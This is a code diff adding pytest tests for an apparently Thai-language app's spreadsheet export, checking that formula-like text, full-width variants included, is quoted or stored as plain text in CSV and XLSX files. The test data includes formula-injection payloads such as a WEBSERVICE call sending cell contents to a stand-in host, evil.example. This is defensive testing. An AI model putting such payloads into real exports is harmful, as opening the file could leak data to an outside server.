@@ -20,6 +20,11 @@ FORMULA_TITLE = '=HYPERLINK("http://evil.example","คลิกที่นี�
 @pytest.mark.parametrize(("value", "expected"), [
     ("=1+1", "'=1+1"), ("+66 81", "'+66 81"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("ขยะ =1+1", "ขยะ =1+1"), ("", ""), (-5, -5), (None, None),
+    # Full-width and small forms a Thai keyboard or a copy from a PDF brings, spaces before them,
+    # and control characters a spreadsheet skips.
+    ("＝1+1", "'＝1+1"), ("＋66", "'＋66"), ("－5", "'－5"), ("＠SUM(A1)", "'＠SUM(A1)"), ("﹦1+1", "'﹦1+1"),
+    ("  =1+1", "'  =1+1"), ("\u3000=1+1", "'\u3000=1+1"), ("\n=1+1", "'\n=1+1"), ("\x00=1", "'\x00=1"),
+    ("a=1", "a=1"), ("๑=1", "๑=1"), ("   ", "   "),
 ])
 def test_neutralise_quotes_only_text_that_starts_a_formula(value, expected):
     assert exports.neutralise(value) == expected
@@ -101,6 +106,33 @@ def test_xlsx_reads_back_thai_with_header_widths_freeze_and_links(client, world,
     widths = {letter: dim.width for letter, dim in sheet.column_dimensions.items()}
     assert widths and all(2 < width <= exports.XLSX_MAX_WIDTH + 2 for width in widths.values())
     assert b"@example.org" not in raw
+
+
+#: Criteria an organiser (or whoever took over their account) may name: they become column titles.
+FORMULA_CRITERIA = ['=WEBSERVICE("http://evil.example/?"&A2)', "＝HYPERLINK(\"http://evil.example\")", "+1", "@SUM(A1)"]
+
+
+def test_formula_like_criteria_names_are_text_in_every_header(client, world, exported):
+    shortlist, _tricky, _formula = exported
+    for weight, name in enumerate(FORMULA_CRITERIA, 1):
+        services.add_criterion(shortlist, name, weight, world.organiser)
+    db.session.commit()
+    raw_csv = _download(client, world, shortlist, "csv").data.decode("utf-8-sig")
+    header = next(csv.reader(io.StringIO(raw_csv, newline="")))
+    for name in FORMULA_CRITERIA:
+        assert f"'{name} (เฉลี่ย)" in header
+    assert not [cell for cell in header if exports.starts_a_formula(cell)]
+    raw_xlsx = _download(client, world, shortlist, "xlsx").data
+    sheet = load_workbook(io.BytesIO(raw_xlsx)).active
+    titles = {cell.value: cell for cell in sheet[1]}
+    for name in FORMULA_CRITERIA:
+        cell = titles[f"{name} (เฉลี่ย)"]  # the exact name, stored as text
+        assert cell.data_type == "s", name
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(raw_xlsx)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
 
 
 def test_json_reads_back_thai_exactly_and_has_no_private_data(client, world, exported):
